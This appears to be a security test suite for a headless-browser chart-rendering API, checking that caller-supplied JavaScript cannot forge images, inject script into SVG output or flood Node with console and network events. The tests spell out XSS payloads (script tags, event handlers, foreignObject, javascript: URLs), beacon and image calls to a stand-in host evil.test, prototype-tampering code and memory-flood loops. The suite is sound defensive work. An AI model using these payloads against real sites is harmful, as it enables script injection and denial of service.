// What a render hands back is bounded and cannot script. Caller code
// (function strings on authenticated endpoints) tries to forge or inflate the image, smuggle
// script into the SVG and flood Node through the console; each attack is a test here.
import { expect } from 'chai';
import { BAR, post, sharedAccount, startTestServer, type TestServer } from '../helpers/server.js';
import { imageLimit, SVG_BASE_BYTES, SVG_BYTES_PER_PIXEL } from '../../src/services/render.js';
import { decodePng, isPng } from '../helpers/images.js';
import type { SqliteStore } from '../../src/store/sqlite/index.js';
import type { CDPSession, Page } from 'puppeteer-core';
import { apiKey, bytes, errorOf } from '../helpers/client.js';

/** Page events that carry caller-controlled strings to Node. */
const WATCHED = ['Runtime.consoleAPICalled', 'Runtime.exceptionThrown', 'Log.entryAdded', 'Network.requestWillBeSent', 'Audits.issueAdded', 'Fetch.requestPaused'] as const;

const SVG_CSP = "default-src 'none'; style-src 'unsafe-inline'; sandbox";

/** A bar chart with an inline plugin whose afterDraw hook runs `body` (chart in scope). */
function withAfterDraw(body: string, title = 'x'): Record<string, unknown> {
  return {
    type: 'bar',
    data: BAR.data,
    options: { plugins: { title: { display: true, text: title } } },
    plugins: [{ id: 'p', afterDraw: `function(chart){ ${body} }` }],
  };
}

/** A bar chart whose y tick callback runs `body` once (Chart.js calls it per tick and pass). */
function withTickFn(body: string): Record<string, unknown> {
  const once = `if (!window.__ran) { window.__ran = 1; ${body}; }`;
  return { type: 'bar', data: BAR.data, options: { scales: { y: { ticks: { callback: `function(v){ ${once}; return v; }` } } } } };
}

// Appends what an attacker would to the SVG root the context draws into (svgcanvas keeps it
// as ctx.__root): script, an onload, event handlers, foreignObject, external references and a
// comment of `commentMb` MB.
const SVG_ATTACK = (commentMb: number) => `
  var root = chart.ctx.__root; if (!root) return;
  var NS = 'http://www.w3.org/2000/svg';
  root.setAttribute('onload', 'alert(document.domain)');
  var s = document.createElementNS(NS, 'script'); s.textContent = 'alert(1)'; root.appendChild(s);
  var g = document.createElementNS(NS, 'g'); g.setAttribute('onclick', 'alert(2)'); g.setAttribute('style', 'background:url(http://evil.test/s)');
  var r = document.createElementNS(NS, 'rect'); r.setAttribute('fill', 'url(http://evil.test/f#x)'); r.setAttribute('width', '5'); g.appendChild(r); root.appendChild(g);
  var f = document.createElementNS(NS, 'foreignObject'); f.innerHTML = '<img src=x onerror=alert(3)>'; root.appendChild(f);
  var i = document.createElementNS(NS, 'image'); i.setAttributeNS('http://www.w3.org/1999/xlink', 'xlink:href', 'http://evil.test/i.png'); root.appendChild(i);
  var u = document.createElementNS(NS, 'use'); u.setAttribute('href', 'http://evil.test/u.svg#a'); root.appendChild(u);
  var t = document.createElementNS(NS, 'text'); t.textContent = '</text><script>alert(4)</script>'; root.appendChild(t);
  root.appendChild(document.createProcessingInstruction('xml-stylesheet', 'href="http://evil.test/x.css"'));
  root.appendChild(document.createComment('x'.repeat(${commentMb} * 1024 * 1024)));
`;

function expectInert(svg: string): void {
  expect(svg).not.to.match(/<script|onload|onclick|onerror|foreignObject|<!--|<\?|evil\.test|<use\b/i);
  expect(svg).to.match(/^<svg[^>]*\swidth="400"/);
  expect(svg.trim().endsWith('</svg>')).to.equal(true);
  // the text is kept as text, escaped
  expect(svg).to.include('&lt;/text&gt;&lt;script&gt;');
}

describe('containment: bounded output that cannot script', function () {
  this.timeout(180000);
  let s: TestServer;
  let key: string;

  const send = (chart: unknown, extra: Record<string, unknown> = {}) =>
    post(s.url, '/v1/chart', { chart, width: 400, height: 200, ...extra }, apiKey(key));
  const json = async (res: Response) => (await res.json()) as { error?: string; detail?: string; id?: string; url?: string };

  before(async () => {
    // A low MAX_IMAGE_BYTES makes "over the limit" reachable with a plain chart; one page, so
    // "the next render" runs on the page the attack used.
    s = await startTestServer({ poolSize: 1, renderTimeoutMs: 3000, pageMaxRenders: 100000, maxImageBytes: 4 * 1024 * 1024 });
    key = (await s.account('enterprise')).api_key;
  });
  after(() => s?.stop());

  describe('PNG', () => {
    it('a function overriding HTMLCanvasElement.prototype.toDataURL cannot forge or inflate the image', async () => {
      // after Chart.js has drawn: every prototype the harness could use to encode or cut the image
      const forge = `HTMLCanvasElement.prototype.toDataURL = function(){ return 'data:image/png;base64,' + 'QUFB'.repeat(30 * 1024 * 1024); };
        String.prototype.slice = function(){ return 'QUFB'.repeat(1024 * 1024); }; String.prototype.indexOf = function(){ return 0; };
        String.prototype.replace = function(){ return 'forged'; }; String.prototype.charCodeAt = function(){ return 0; };
        Object.prototype.then = function(resolve){ resolve({ ok: true, data: 'QUFB'.repeat(1024 * 1024), ms: 1, ranFunctions: false }); };
        Reflect.apply = function(){ return 'forged'; }; Function.prototype.apply = function(){ return 'forged'; };
        Function.prototype.call = function(){ return 'forged'; }; JSON.stringify = function(){ return 'forged'; };
        performance.now = function(){ return 'x'.repeat(1024); };`;
      const res = await send({ ...BAR, plugins: [{ id: 'forge', afterRender: `function(){ ${forge} }` }] });
      expect(res.status, await res.clone().text().then((t) => t.slice(0, 200))).to.equal(200);
      const png = await bytes(res);
      expect(isPng(png)).to.equal(true);
      expect(png.length).to.be.below(200 * 1024);
      const img = decodePng(png);
      expect([img.width, img.height]).to.deep.equal([400, 200]);
    });

    it('a destroy hook throwing a 50 MB error (and breaking Chart.instances) neither escapes the page nor fails the render', async () => {
      const hook = `var big = 'd'.repeat(50 * 1024 * 1024);
        Object.defineProperty(Chart, 'instances', { get: function(){ throw new Error(big); } }); throw new Error(big);`;
      const res = await send({ ...BAR, plugins: [{ id: 'boom', afterDestroy: `function(){ ${hook} }` }] });
      expect(res.status, await res.clone().text().then((t) => t.slice(0, 200))).to.equal(200);
      expect(isPng(await bytes(res))).to.equal(true);
    });

    it('a canvas resized by caller code is refused (400), and the next render is fine', async () => {
      const res = await send(withAfterDraw('chart.canvas.width = 8000; chart.canvas.height = 8000;'));
      expect(res.status).to.equal(400);
      expect(await json(res)).to.deep.include({ error: 'invalid_input' });
      expect((await send(BAR)).status).to.equal(200);
    });

    it('over MAX_IMAGE_BYTES: 400 invalid_input naming the limit, nothing stored, the next render fine', async () => {
      // noise over the whole canvas: a PNG of about 4 bytes a pixel (1600x1200 -> ~7.7 MB > 4 MB)
      const noise = `var c = chart.ctx, w = chart.width, h = chart.height, d = c.createImageData(w, h);
        for (var i = 0; i < d.data.length; i++) d.data[i] = (Math.random() * 256) | 0; c.putImageData(d, 0, 0);`;
      const body = { chart: withAfterDraw(noise), width: 1600, height: 1200 };
      const res = await post(s.url, '/v1/chart', body, apiKey(key));
      expect(res.status).to.equal(400);
      const e = await json(res);
      expect(e.error).to.equal('invalid_input');
      expect(e.detail).to.match(/^the image would be \d+ bytes; at most MAX_IMAGE_BYTES = 4194304$/);

      const acct = await s.account('enterprise');
      const created = await post(s.url, '/v1/chart/create', body, apiKey(acct.api_key));
      expect(created.status).to.equal(400);
      expect((await json(created)).detail).to.match(/MAX_IMAGE_BYTES = 4194304/);
      const row = (s.deps.store as SqliteStore).db
        .prepare<[string], { n: number }>('SELECT COUNT(*) AS n FROM charts WHERE account_id = ?')
        .get(acct.account_id);
      expect(row!.n, 'no chart stored').to.equal(0);

      const next = await send(BAR);
      expect(next.status).to.equal(200);
      expect(isPng(await bytes(next))).to.equal(true);
    });
  });

  describe('SVG', () => {
    it('script, handlers, foreignObject, external references and a 150 MB comment never reach a short URL', async () => {
      const created = await post(s.url, '/v1/chart/create', { chart: withAfterDraw(SVG_ATTACK(150)), width: 400, height: 200, format: 'svg' }, apiKey(key));
      expect(created.status, JSON.stringify(await created.clone().json())).to.equal(201);
      const { id } = await json(created);
      const res = await fetch(`${s.url}/v1/chart/${id}`);
      expect(res.status).to.equal(200);
      expect(res.headers.get('content-type')).to.match(/^image\/svg\+xml/);
      expect(res.headers.get('x-content-type-options')).to.equal('nosniff');
      expect(res.headers.get('content-security-policy')).to.equal(SVG_CSP);
      const svg = await res.text();
      expect(svg.length).to.be.below(100 * 1024);
      expectInert(svg);
      expect(svg).to.match(/<rect[^>]*width="5"/); // the rect stays, its external fill does not
      expect(svg).not.to.match(/fill="url\(http/);
    });

    it('GET /v1/chart?format=svg serves the same attack inert, with nosniff and the CSP', async () => {
      const q = new URLSearchParams({ chart: JSON.stringify(withAfterDraw(SVG_ATTACK(1))), width: '400', height: '200', format: 'svg', api_key: key });
      const res = await fetch(`${s.url}/v1/chart?${q}`);
      expect(res.status, await res.clone().text().then((t) => t.slice(0, 200))).to.equal(200);
      expect(res.headers.get('x-content-type-options')).to.equal('nosniff');
      expect(res.headers.get('content-security-policy')).to.equal(SVG_CSP);
      expectInert(await res.text());
    });

    it('an SVG over MAX_IMAGE_BYTES (5 MB of text) is refused with 400 naming the limit', async () => {
      const big = `var t = document.createElementNS('http://www.w3.org/2000/svg', 'text'); t.textContent = 'y'.repeat(5 * 1024 * 1024); chart.ctx.__root.appendChild(t);`;
      const res = await send(withAfterDraw(big), { format: 'svg' });
      expect(res.status).to.equal(400);
      expect((await json(res)).detail).to.match(/^the image would be \d+ bytes; at most MAX_IMAGE_BYTES = 4194304$/);
      expect((await send(BAR, { format: 'svg' })).status).to.equal(200);
    });

    it('caller code replacing the serialiser, XMLSerializer and the context cannot change the output', async () => {
      const body = `window.ChartshotSerializeSvg = function(){ return '<script>alert(1)</script>'; };
        XMLSerializer.prototype.serializeToString = function(){ return '<svg><script>alert(1)</script></svg>'; };
        chart.ctx.getSerializedSvg = function(){ return '<svg><script>alert(1)</script></svg>'; };
        RegExp.prototype.test = function(){ return true; }; RegExp.prototype.exec = function(){ return ['x']; };
        var i = document.createElementNS('http://www.w3.org/2000/svg', 'image'); i.setAttribute('href', 'javascript:alert(1)'); chart.ctx.__root.appendChild(i);`;
      const res = await send(withAfterDraw(body), { format: 'svg' });
      expect(res.status).to.equal(200);
      const svg = await res.text();
      expect(svg).not.to.match(/script|javascript/i);
      expect(svg).to.match(/<path\b/);
    });
  });

  describe('console and network floods', () => {
    /** Bytes of page events (console, errors, network, issues, log) that reach Node while `fn` runs. */
    async function eventBytesDuring<T>(fn: () => Promise<T>): Promise<{ result: T; bytes: number }> {
      const pages = s.deps.pool.livePages();
      let bytes = 0;
      const count = (e: unknown) => {
        bytes += JSON.stringify(e ?? null).length;
      };
      const clients = [...pages].map((rp) => (rp.page as unknown as { _client(): CDPSession })._client());
      for (const c of clients) for (const ev of WATCHED) c.on(ev, count);
      try {
        return { result: await fn(), bytes };
      } finally {
        for (const c of clients) for (const ev of WATCHED) c.off(ev, count);
      }
    }

    async function rssDuring(chart: Record<string, unknown>): Promise<{ deltaMb: number; status: number; eventMb: number }> {
      const { result, bytes } = await eventBytesDuring(() => rssOf(chart));
      if (process.env.DEBUG_FLOOD) console.log('event MB', bytes / 1048576);
      return { ...result, eventMb: bytes / 1048576 };
    }

    async function rssOf(chart: Record<string, unknown>): Promise<{ deltaMb: number; status: number }> {
      global.gc?.();
      const before = process.memoryUsage().rss;
      let peak = before;
      const timer = setInterval(() => {
        peak = Math.max(peak, process.memoryUsage().rss);
      }, 20);
      try {
        const res = await send(chart);
        if (process.env.DEBUG_FLOOD) console.log(res.status, (await res.clone().text()).slice(0, 300));
        await res.arrayBuffer();
        peak = Math.max(peak, process.memoryUsage().rss);
        if (process.env.DEBUG_FLOOD) console.log("delta MB", (peak - before) / 1048576);
        return { deltaMb: (peak - before) / 1024 / 1024, status: res.status };
      } finally {
        clearInterval(timer);
      }
    }

    it('a callback logging 1 MB strings until the timeout (main window and an iframe) leaves Node RSS bounded', async () => {
      const flood = `var big = 'z'.repeat(1024 * 1024);
        var f = document.createElement('iframe'); document.body.appendChild(f); var w = window[0];
        var logs = [console.log, w && w.console && w.console.log, f.contentWindow && f.contentWindow.console.log];
        for (;;) { for (var i = 0; i < logs.length; i++) if (logs[i]) logs[i](big); console.error(big); }`;
      const { deltaMb, status, eventMb } = await rssDuring(withTickFn(flood));
      expect(status, 'the render times out').to.equal(500);
      expect(eventMb, `${eventMb.toFixed(1)} MB of page events reached Node`).to.be.below(1);
      expect(deltaMb, `Node RSS grew ${deltaMb.toFixed(0)} MB`).to.be.below(150);
      const next = await send(BAR);
      expect(next.status).to.equal(200);
    });

    it('same-origin script loads with 1 MB query strings stay bounded', async () => {
      // 5 of each (10 MB of URLs): one page event carrying one URL is already over the 1 MB bound,
      // so a few loads find a leak as surely as many; the page's own work must end within the 3 s
      // deadline on a loaded machine (30 of each took 1.3-2.2 s beside the suite, over 3 s once)
      const probe = `var q = '?' + 'q'.repeat(1024 * 1024);
        for (var i = 0; i < 5; i++) { var el = document.createElement('script'); el.src = 'http://renderer.chartshot.invalid/harness.js' + q + i; document.head.appendChild(el);
          import('http://renderer.chartshot.invalid/lockdown.js' + q + 'm' + i).catch(function(){}); }`;
      const { deltaMb, status, eventMb } = await rssDuring(withTickFn(probe));
      expect(status).to.equal(200);
      expect(eventMb, `${eventMb.toFixed(1)} MB of page events reached Node`).to.be.below(1);
      expect(deltaMb, `Node RSS grew ${deltaMb.toFixed(0)} MB`).to.be.below(150);
    });

    it('fetch, XHR, WebSocket, sendBeacon and window.open are gone; image requests with huge URLs stay bounded', async () => {
      // 8 images of 1 MB URLs (as above: one leaked URL is over the bound; 30 ran past the 3 s
      // deadline on a loaded machine)
      const probe = `var gone = [typeof fetch, typeof XMLHttpRequest, typeof WebSocket, typeof EventSource, typeof Worker].join(',');
        if (gone !== 'undefined,undefined,undefined,undefined,undefined') throw new Error('still there: ' + gone);
        if (navigator.sendBeacon('http://evil.test/', 'x') !== false || window.open('http://evil.test/') !== null) throw new Error('beacon or popup');
        var u = 'http://evil.test/' + 'u'.repeat(1024 * 1024);
        for (var i = 0; i < 8; i++) { new Image().src = u + i; }`;
      const { deltaMb, status, eventMb } = await rssDuring(withTickFn(probe));
      expect(status).to.equal(200);
      expect(eventMb, `${eventMb.toFixed(1)} MB of page events reached Node`).to.be.below(1);
      expect(deltaMb, `Node RSS grew ${deltaMb.toFixed(0)} MB`).to.be.below(150);
    });
  });

  describe('headers on every image response', () => {
    const formats = ['png', 'svg', 'pdf'] as const;
    function expectImageHeaders(res: Response, what: string): void {
      expect(res.status, what).to.equal(200);
      expect(res.headers.get('x-content-type-options'), `${what}: nosniff`).to.equal('nosniff');
      const type = res.headers.get('content-type') ?? '';
      if (type.startsWith('image/svg')) expect(res.headers.get('content-security-policy'), `${what}: CSP`).to.equal(SVG_CSP);
    }

    it('POST and GET /v1/chart, GET /v1/chart/{id} and the automation download, in every format', async () => {
      for (const format of formats) {
        const body = { chart: BAR, width: 300, height: 150, format };
        const posted = await post(s.url, '/v1/chart', body, apiKey(key));
        expectImageHeaders(posted, `POST /v1/chart ${format}`);
        await posted.arrayBuffer();
        const q = new URLSearchParams({ chart: JSON.stringify(BAR), width: '300', height: '150', format, api_key: key });
        const got = await fetch(`${s.url}/v1/chart?${q}`);
        expectImageHeaders(got, `GET /v1/chart ${format}`);
        await got.arrayBuffer();
        const created = await post(s.url, '/v1/chart/create', body, apiKey(key));
        expect(created.status).to.equal(201);
        const { id } = await json(created);
        for (const path of [`/v1/chart/${id}`, `/v1/chart/${id}`]) {
          // the second GET is served from the cache
          const served = await fetch(s.url + path);
          expectImageHeaders(served, `GET /v1/chart/{id} ${format}`);
          await served.arrayBuffer();
        }
      }
      for (const format of ['png', 'svg'] as const) {
        const made = await post(s.url, '/v1/zapier/bar-chart', { title: 'T', labels: 'a,b', values: '1,2', width: 300, height: 200, format }, apiKey(key));
        expect(made.status).to.equal(201);
        const { download_url } = (await made.json()) as { download_url: string };
        const dl = await fetch(s.url + new URL(download_url).pathname);
        expectImageHeaders(dl, `automation download ${format}`);
        await dl.arrayBuffer();
      }
    });

    it('GET /v1/open/chart, PNG and SVG', async () => {
      for (const format of ['png', 'svg']) {
        const res = await fetch(`${s.url}/v1/open/chart?type=bar&data=1,2,3&labels=a,b,c&format=${format}`);
        expectImageHeaders(res, `open ${format}`);
        await res.arrayBuffer();
      }
    });
  });
});

describe('containment: an SVG is bounded by its size too', function () {
  this.timeout(120000);

  it('a 100x100 SVG stuffed with 10 MB of text is refused under the default MAX_IMAGE_BYTES, naming the per-size bound', async () => {
    const { s, key: api_key } = await sharedAccount();
    const big = `var t = document.createElementNS('http://www.w3.org/2000/svg', 'text'); t.textContent = 'y'.repeat(10 * 1024 * 1024); chart.ctx.__root.appendChild(t);`;
    const res = await post(s.url, '/v1/chart', { chart: withAfterDraw(big), width: 100, height: 100, format: 'svg' }, apiKey(api_key));
    const e = await errorOf(res);
    expect(e).to.include({ status: 400, error: 'invalid_input' });
    const bound = SVG_BASE_BYTES + SVG_BYTES_PER_PIXEL * 100 * 100;
    expect(e.detail).to.equal(`the image would be ${e.detail!.match(/be (\d+) bytes/)![1]} bytes; at most ${bound} for a 100x100 SVG (${SVG_BYTES_PER_PIXEL} bytes a pixel + ${SVG_BASE_BYTES / 1048576} MiB)`);
    expect(imageLimit('svg', 100, 100, 1000)).to.equal(1000);
    expect(imageLimit('png', 8000, 8000, undefined)).to.equal(undefined);
  });
});
